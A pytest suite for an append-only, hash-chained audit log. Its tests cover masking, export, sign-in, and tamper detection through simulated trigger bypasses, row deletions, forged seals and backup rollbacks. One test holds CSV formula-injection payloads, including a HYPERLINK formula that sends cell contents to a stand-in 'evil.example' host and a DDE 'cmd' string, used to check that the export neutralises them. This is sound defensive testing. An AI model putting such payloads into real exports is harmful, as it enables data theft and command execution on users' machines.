"""The audit trail is append-only, tamper-evident, filterable, and never stores card numbers.

Tests that take `backend_settings` (directly or through `log` / `base`) run on SQLite and on
PostgreSQL, where the append-only rule is a trigger function and the trail a schema."""

from __future__ import annotations

import datetime as dt
import sqlite3

import psycopg
import pytest

from kb.audit import AuditLog, events_csv
from kb.database import is_postgres

REFUSED = (sqlite3.IntegrityError, psycopg.IntegrityError)
"""What each engine raises when the append-only rule refuses a change."""


@pytest.fixture
def base(backend_settings):
    """The data folder of a fresh base: a folder of SQLite files, then PostgreSQL schemas."""
    return backend_settings.data_dir


@pytest.fixture
def log(base):
    audit = AuditLog(base / "audit.sqlite")
    yield audit
    audit.close()


def test_events_are_masked_filtered_and_exported(log):
    log.record("ana", "sign_in")
    log.record("ana", "question", question="card 4539 1488 0343 6467 swallowed", documents=["atm"])
    log.record("kim", "upload", file="fees.pdf", status="added")
    question = log.events(user="ana", action="question")[0]
    assert question.details["question"] == "card [card ****6467] swallowed"
    assert [e.action for e in log.events()] == ["upload", "question", "sign_in"]
    assert log.events(since=dt.date.today(), until=dt.date.today())
    assert log.events(until=dt.date.today() - dt.timedelta(days=1)) == []
    exported = events_csv(log.events())
    assert exported.splitlines()[0] == "id,at,user,action,details" and "4539" not in exported
    with pytest.raises(ValueError, match="unknown audit action"):
        log.record("ana", "teleport")


def test_rows_cannot_be_changed_or_removed(log):
    log.record("ana", "sign_in")
    with pytest.raises(REFUSED, match="append-only"):
        log.db.execute("UPDATE audit SET \"user\" = 'eve'")
    with pytest.raises(REFUSED, match="append-only"):
        log.db.execute("DELETE FROM audit")
    if is_postgres(log.db):
        with pytest.raises(REFUSED, match="append-only"):
            log.db.execute("TRUNCATE audit")
    assert [e.user for e in log.events()] == ["ana"] and log.verify() is None


def test_tampering_behind_the_database_breaks_the_chain(log):
    for user in ("ana", "kim", "lee"):
        log.record(user, "sign_in")
    assert log.verify() is None
    bypass_triggers(log)  # someone with the database's owner rights bypasses the rule
    log.db.execute("UPDATE audit SET \"user\" = 'eve' WHERE id = 2")
    assert log.verify() == 2


def test_users_sign_in_disable_and_roles(tmp_path):
    from kb.errors import KBError
    from kb.users import UserStore

    users = UserStore(tmp_path / "users.sqlite")
    users.add("ana", "agent", ("cards-team",), password="correct horse")
    assert users.authenticate("ana", "correct horse").access_groups == ("everyone", "cards-team")
    assert users.authenticate("ana", "wrong password") is None
    assert users.authenticate("nobody", "correct horse") is None
    stored = users.db.execute("SELECT password_hash FROM users").fetchone()[0]
    assert stored.startswith("$argon2") and "correct horse" not in stored
    users.set_disabled("ana")
    assert users.authenticate("ana", "correct horse") is None
    users.set_disabled("ana", False)
    users.set_password("ana", "battery staple")
    assert users.authenticate("ana", "battery staple") is not None
    assert users.update("ana", role="knowledge").role == "knowledge"
    with pytest.raises(KBError, match="at least 12"):
        users.set_password("ana", "short")
    with pytest.raises(KBError, match="role must be one of"):
        users.add("bob", "superuser")
    with pytest.raises(KBError, match="already exists"):
        users.add("ana", "agent")
    users.close()


# ---------------------------------------------------------------- a trail that cannot be trimmed

security = pytest.mark.security


def trail(tmp_path, events: int = 5) -> AuditLog:
    """`events` sign-ins in the trail of the base at `tmp_path / "kb"` (whichever backend a
    test's `backend_settings` bound that folder to)."""
    audit = AuditLog(tmp_path / "kb" / "audit.sqlite")
    for number in range(events):
        audit.record(f"user{number}", "sign_in")
    assert audit.verify() is None
    return audit


def bypass_triggers(audit: AuditLog) -> None:
    """What someone with the database file, or the table owner's rights (and no key), can do."""
    on = " ON audit" if is_postgres(audit.db) else ""
    audit.db.execute(f"DROP TRIGGER audit_no_update{on}")
    audit.db.execute(f"DROP TRIGGER audit_no_delete{on}")


def checks(audit: AuditLog) -> list[tuple[int, str]]:
    return [(p.event, p.check) for p in audit.problems()]


@security
def test_deleting_the_last_events_is_detected(tmp_path, backend_settings):
    """Attack: delete the last two events of the audit trail with a SQL tool."""
    audit = trail(tmp_path)
    bypass_triggers(audit)
    audit.db.execute("DELETE FROM audit WHERE id > 3")
    assert audit.verify() == 4
    assert checks(audit) == [(4, "tail")]
    assert "events 4..5 are missing" in str(audit.problems()[0])


@security
def test_truncating_the_tail_is_detected(tmp_path):
    """Attack: truncate the audit trail to its first event."""
    audit = trail(tmp_path)
    bypass_triggers(audit)
    audit.db.execute("DELETE FROM audit WHERE id > 1")
    assert audit.verify() == 2
    assert checks(audit) == [(2, "tail")]


@security
def test_emptying_the_table_is_detected(tmp_path, backend_settings):
    """Attack: empty the audit table (DELETE FROM audit)."""
    audit = trail(tmp_path)
    bypass_triggers(audit)
    audit.db.execute("DELETE FROM audit")
    assert audit.verify() is not None
    assert checks(audit) == [(5, "empty")]


@security
def test_deleting_the_audit_database_is_detected(tmp_path, backend_settings):
    """Attack: delete audit.sqlite (on PostgreSQL: drop the trail's schema); the app starts a
    fresh, empty trail."""
    audit = trail(tmp_path)
    if is_postgres(audit.db):
        audit.db.execute(f'DROP SCHEMA "{audit.db.schema}" CASCADE')
    audit.close()
    for path in (tmp_path / "kb").glob("audit.sqlite*"):
        path.unlink()
    fresh = AuditLog(tmp_path / "kb" / "audit.sqlite")
    fresh.record("eve", "sign_in")  # the next event does not hide it
    assert fresh.verify() is not None
    assert checks(fresh) == [(0, "seal-missing")]
    fresh.close()


@security
def test_editing_an_event_and_recomputing_the_chain_is_detected(tmp_path, backend_settings):
    """Attack: edit an event, then re-compute every hash after it so the chain checks."""
    from kb.audit import _row_hash

    audit = trail(tmp_path)
    bypass_triggers(audit)
    audit.db.execute("UPDATE audit SET \"user\" = 'nobody' WHERE id = 2")
    previous = audit.db.execute("SELECT hash FROM audit WHERE id = 1").fetchone()[0]
    for row_id, at, user, action, details in audit.db.execute(
        'SELECT id, at, "user", action, details FROM audit WHERE id >= 2 ORDER BY id'
    ).fetchall():
        digest = _row_hash(previous, at, user, action, details)
        audit.db.execute(
            "UPDATE audit SET previous_hash = ?, hash = ? WHERE id = ?", (previous, digest, row_id)
        )
        previous = digest
    assert audit.verify() == 5
    assert checks(audit) == [(5, "head")]


@security
def test_a_seal_written_without_the_key_is_detected(tmp_path, backend_settings):
    """Attack: truncate the trail and write a new seal for the shorter head without the key."""
    import hashlib
    import hmac

    audit = trail(tmp_path)
    bypass_triggers(audit)
    audit.db.execute("DELETE FROM audit WHERE id > 3")
    head = audit.db.execute("SELECT hash FROM audit WHERE id = 3").fetchone()[0]
    guess = hmac.new(b"\0" * 32, f"seal\x1f3\x1f{head}\x1f3".encode(), hashlib.sha256)
    audit.db.execute(
        "UPDATE audit_seal SET head_id = 3, head_hash = ?, events = 3, mac = ?",
        (head, guess.hexdigest()),
    )
    assert checks(audit) == [(3, "seal-mac")]


def test_a_middle_deletion_names_the_event_and_the_check(tmp_path):
    audit = trail(tmp_path)
    bypass_triggers(audit)
    audit.db.execute("DELETE FROM audit WHERE id = 3")
    assert checks(audit)[0] == (4, "link")
    assert "event 2" in audit.problems()[0].message


def test_a_trail_from_before_sealing_is_sealed_once_when_its_key_is_made(tmp_path):
    audit = trail(tmp_path)
    audit.db.execute("DELETE FROM audit_seal")  # as an older version left it...
    audit.close()
    (tmp_path / "kb.audit-key").unlink()  # ...with no key yet
    upgraded = AuditLog(tmp_path / "kb" / "audit.sqlite")
    assert upgraded.verify() is None
    upgraded.record("ana", "sign_in")
    assert upgraded.verify() is None
    upgraded.close()


def test_a_person_can_reseal_after_investigating(tmp_path):
    audit = trail(tmp_path)
    bypass_triggers(audit)
    audit.db.execute("DELETE FROM audit WHERE id > 3")
    event = audit.reseal("cli", "tail lost in the 2026-11-30 disk failure; ticket SEC-42")
    assert audit.verify() is None
    assert "events 4..5 are missing" in event.details["problems"][0]


@security
def test_kb_audit_verify_says_what_is_wrong_and_fails(
    tmp_path, monkeypatch, capsys, backend_settings
):
    """Attack: truncate the trail, then run `kb audit --verify` (it said "intact", exit 0)."""
    from kb.cli import main

    monkeypatch.setenv("KB_DATA_DIR", str(tmp_path / "kb"))
    monkeypatch.setenv("KB_STORE", backend_settings.store)  # the CLI reads the same base
    monkeypatch.setenv("KB_DATABASE_SCHEMA", backend_settings.database_schema)
    audit = trail(tmp_path)
    assert main(["audit", "--verify"]) == 0
    bypass_triggers(audit)
    audit.db.execute("DELETE FROM audit WHERE id > 2")
    audit.close()
    assert main(["audit", "--verify"]) == 1
    said = capsys.readouterr().err
    assert "event 3: [tail] events 3..5 are missing" in said


@security
def test_a_formula_typed_as_a_name_is_not_live_in_the_csv_export(tmp_path):
    """Attack: type =HYPERLINK(...) as the user name at sign-in; open the CSV export in Excel."""
    import csv
    import io

    audit = trail(tmp_path, 0)
    for typed in ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2", "@SUM(A1)"):
        audit.record(typed, "sign_in_failed", reason="\tcmd|' /C calc'!A0")
    audit.record("ana", "export", file="=cmd")
    rows = list(csv.reader(io.StringIO(events_csv(audit.events()))))[1:]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
    audit.close()


def test_processes_starting_together_share_one_key(tmp_path, backend_settings):
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(4) as pool:
        logs = list(pool.map(lambda _: AuditLog(tmp_path / "kb" / "audit.sqlite"), range(4)))
    logs[0].record("ana", "sign_in")
    assert all(log.verify() is None for log in logs)
    made = sorted(p.name for p in tmp_path.iterdir() if p.name != "kb")
    assert made == ["kb.audit-key"]  # no drafts
    for log in logs:
        log.close()


def test_staged_events_are_delivered_once_and_delivery_only_reads_when_none_are(
    tmp_path, backend_settings
):
    from kb.audit import stage
    from kb.database import open_database

    audit = trail(tmp_path, 0)
    if is_postgres(audit.db):  # two connections to the registry's schema
        registry, writer = (open_database(tmp_path / "kb" / "registry.sqlite") for _ in "rw")
    else:
        registry = sqlite3.connect(tmp_path / "registry.sqlite", isolation_level=None, timeout=0.1)
        writer = sqlite3.connect(tmp_path / "registry.sqlite", isolation_level=None)
    writer.execute("CREATE TABLE documents (id TEXT)")
    writer.execute("BEGIN IMMEDIATE")  # a long ingest in another process holds the lock
    assert audit.deliver(registry) == 0  # no wait, no "database is locked"
    stage(writer, "kim", "deletion", document="fees")
    assert audit.deliver(registry) == 0  # not committed yet: not a change, not an event
    writer.execute("COMMIT")
    writer.execute("BEGIN IMMEDIATE")
    stage(writer, "kim", "metadata_edit", document="fees", owner="card 4539 1488 0343 6467")
    writer.execute("ROLLBACK")  # a change that failed leaves no event
    writer.close()
    assert audit.deliver(registry) == 1
    assert audit.deliver(registry) == 0
    assert [(e.user, e.action) for e in audit.events()] == [("kim", "deletion")]
    assert audit.verify() is None
    registry.close()
    audit.close()


@security
def test_rolling_the_trail_back_to_an_older_copy_is_caught_by_a_checkpoint(
    tmp_path, monkeypatch, capsys
):
    """Attack: replace audit.sqlite with an older backup (its seal is valid for it)."""
    from kb.cli import main

    monkeypatch.setenv("KB_DATA_DIR", str(tmp_path / "kb"))
    audit = trail(tmp_path, 3)
    older = sqlite3.connect(tmp_path / "older.sqlite")
    audit.db.backup(older)
    older.close()
    for number in range(3):
        audit.record("kim", "deletion", document=f"doc-{number}")
    audit.close()
    assert main(["audit", "--checkpoint", str(tmp_path / "checkpoint.json")]) == 0
    for path in (tmp_path / "kb").glob("audit.sqlite*"):
        path.unlink()
    (tmp_path / "older.sqlite").rename(tmp_path / "kb" / "audit.sqlite")
    assert main(["audit", "--verify"]) == 0  # the older copy is consistent in itself...
    capsys.readouterr()
    checkpoint = str(tmp_path / "checkpoint.json")
    assert main(["audit", "--verify", "--against", checkpoint]) == 1  # ...but not the trail
    said = capsys.readouterr().err
    assert "event 6: [rollback] the checkpoint of" in said
    assert "saw event 6 but the trail no longer holds it" in said


def test_a_checkpoint_holds_while_the_trail_grows_and_must_carry_the_key(tmp_path):
    audit = trail(tmp_path, 2)
    checkpoint = audit.checkpoint()
    audit.record("ana", "sign_out")
    assert audit.check_checkpoint(checkpoint) == []
    forged = {**checkpoint, "head_id": 1}
    assert [p.check for p in audit.check_checkpoint(forged)] == ["checkpoint"]
    assert [p.check for p in audit.check_checkpoint({"at": "x"})] == ["checkpoint"]
    audit.close()


@security
@pytest.mark.parametrize("backend_settings", ["postgres"], indirect=True)
def test_a_replica_without_the_shared_key_refuses_to_start(tmp_path, backend_settings):
    """Attack (or slip): start a replica on another machine with no key file; a key of its
    own would re-seal the shared trail and hide whatever was done before."""
    from kb.errors import KBError

    audit = trail(tmp_path, 2)
    elsewhere = tmp_path / "other-machine.audit-key"
    with pytest.raises(KBError, match="same key file"):
        AuditLog(tmp_path / "kb" / "audit.sqlite", key_file=elsewhere)
    assert not elsewhere.exists() and audit.verify() is None
    shared = AuditLog(tmp_path / "kb" / "audit.sqlite", key_file=tmp_path / "kb.audit-key")
    shared.record("kim", "sign_in")  # a replica with the shared key appends to the same chain
    assert audit.verify() is None and audit.events()[0].user == "kim"
    shared.close()
    audit.close()


def test_delivery_blocked_by_another_writer_is_finished_by_the_next_one(tmp_path):
    """A change committed while another process holds the registry's write lock (a long ingest)
    is not reported as failed: its event reaches the trail, and the outbox row the locked
    registry could not drop is cleared by the next delivery, without a second event."""
    from kb.audit import stage

    audit = AuditLog(tmp_path / "audit.sqlite")
    registry = sqlite3.connect(tmp_path / "registry.sqlite", isolation_level=None, timeout=0.1)
    registry.execute("BEGIN IMMEDIATE")
    stage(registry, "kim", "upload", file="fees.pdf", status="added")
    registry.execute("COMMIT")
    other = sqlite3.connect(tmp_path / "registry.sqlite", isolation_level=None)
    other.execute("BEGIN IMMEDIATE")  # the other process's ingest
    try:
        assert audit.deliver(registry) == 1
    finally:
        other.execute("ROLLBACK")
    assert registry.execute("SELECT count(*) FROM audit_outbox").fetchone()[0] == 1
    assert audit.deliver(registry) == 0
    assert registry.execute("SELECT count(*) FROM audit_outbox").fetchone()[0] == 0
    assert [e.action for e in audit.events()] == ["upload"]
    audit.close()


class _Watched:
    """The trail's connection, with every statement it is given written down."""

    def __init__(self, db) -> None:  # type: ignore[no-untyped-def]
        self.db, self.statements = db, []

    def execute(self, sql, *args):  # type: ignore[no-untyped-def]
        self.statements.append(" ".join(sql.split()))
        return self.db.execute(sql, *args)

    def __getattr__(self, name):  # type: ignore[no-untyped-def]
        return getattr(self.db, name)


def test_an_answered_question_is_two_events_in_one_transaction_without_counting_the_trail(log):
    """Appending costs the same however long the trail is: the seal's count is carried
    forward, not recounted (a scan of every event, on every question asked)."""
    log.record("ana", "sign_in")
    watched = _Watched(log.db)
    log.db = watched
    events = log.record_many(
        "ana",
        [
            ("question", {"question": "card 4539 1488 0343 6467 lost"}),
            ("answer_shown", {"status": "answered", "passages": ["c1"]}),
        ],
    )
    log.db = watched.db
    assert [e.action for e in events] == ["question", "answer_shown"]
    assert events[1].id == events[0].id + 1
    assert events[0].details["question"] == "card [card ****6467] lost"
    assert not [s for s in watched.statements if "count(" in s.lower()]
    assert [s.split()[0] for s in watched.statements].count("BEGIN") == 1
    assert log.verify() is None and log.problems() == []
    assert log.db.execute("SELECT events FROM audit_seal").fetchone()[0] == 3
    with pytest.raises(ValueError, match="unknown audit action"):
        log.record_many("ana", [("question", {}), ("teleport", {})])
    assert len(log.events()) == 3  # nothing of a refused batch is written


@security
def test_an_append_after_a_hidden_deletion_does_not_seal_it_over(tmp_path, backend_settings):
    """Attack: delete a middle event and let the next question re-seal the trail. The seal
    carries its count forward, so the count check still sees the loss (recounting would
    have sealed the shorter trail as if it were whole)."""
    audit = trail(tmp_path)
    bypass_triggers(audit)
    audit.db.execute("DELETE FROM audit WHERE id = 3")
    audit.record("ana", "sign_in")
    found = checks(audit)
    assert (4, "link") in found and any(check == "count" for _, check in found)


@security
def test_the_next_question_does_not_seal_over_a_deleted_tail(tmp_path, backend_settings):
    """Attack: delete the last events, then wait for agents to go on asking. Each question
    used to re-seal the trail as it then was, so the loss vanished from `kb audit --verify`
    at the next append; now the seal stays behind until a person reseals."""
    audit = trail(tmp_path)
    bypass_triggers(audit)
    audit.db.execute("DELETE FROM audit WHERE id > 3")
    audit.record("ana", "sign_in")
    audit.record("ana", "sign_in")
    assert checks(audit) == [(5, "tail")]
    assert "event 5, is gone" in str(audit.problems()[0])
    audit.reseal("cli", "tail lost in a restore; ticket SEC-43")
    audit.record("ana", "sign_in")
    assert audit.problems() == []


@security
def test_the_next_question_does_not_seal_over_events_written_without_the_key(
    tmp_path, backend_settings
):
    """Attack: insert an event straight into the table (its chain link computed right), then
    let the next question seal the trail: the insertion stays reported."""
    from kb.audit import _row_hash

    audit = trail(tmp_path)
    last = audit.db.execute("SELECT hash FROM audit ORDER BY id DESC LIMIT 1").fetchone()[0]
    at, body = "2026-12-01T00:00:00.000+00:00", "{}"
    audit.db.execute(
        'INSERT INTO audit(at, "user", action, details, previous_hash, hash) VALUES (?,?,?,?,?,?)',
        (at, "eve", "sign_in", body, last, _row_hash(last, at, "eve", "sign_in", body)),
    )
    audit.record("ana", "sign_in")
    assert checks(audit) == [(6, "unsealed")]


@security
def test_the_quick_seal_check_sees_a_deleted_tail_and_a_forged_head(tmp_path, backend_settings):
    """The Admin page's check on every visit reads a few rows, not the trail: it still sees
    what the seal alone can show."""
    audit = trail(tmp_path)
    assert audit.seal_problems() == []
    watched = _Watched(audit.db)
    audit.db = watched
    audit.seal_problems()
    audit.db = watched.db
    assert not [s for s in watched.statements if "details" in s or "count(" in s.lower()]
    bypass_triggers(audit)
    audit.db.execute("DELETE FROM audit WHERE id > 3")
    assert [(p.event, p.check) for p in audit.seal_problems()] == [(4, "tail")]


def test_reading_the_whole_trail_in_batches_finds_the_same_and_reports_progress(tmp_path):
    audit = trail(tmp_path, events=7)
    bypass_triggers(audit)
    audit.db.execute("UPDATE audit SET \"user\" = 'eve' WHERE id = 4")
    seen: list[tuple[int, int]] = []
    in_batches = audit.problems(progress=lambda done, total: seen.append((done, total)), batch=3)
    assert [(p.event, p.check) for p in in_batches] == [(4, "content")]
    assert in_batches == audit.problems()  # one batch
    assert seen == [(3, 7), (6, 7), (7, 7)]
    assert audit.seal_problems() == []  # an edit inside the trail needs the whole read
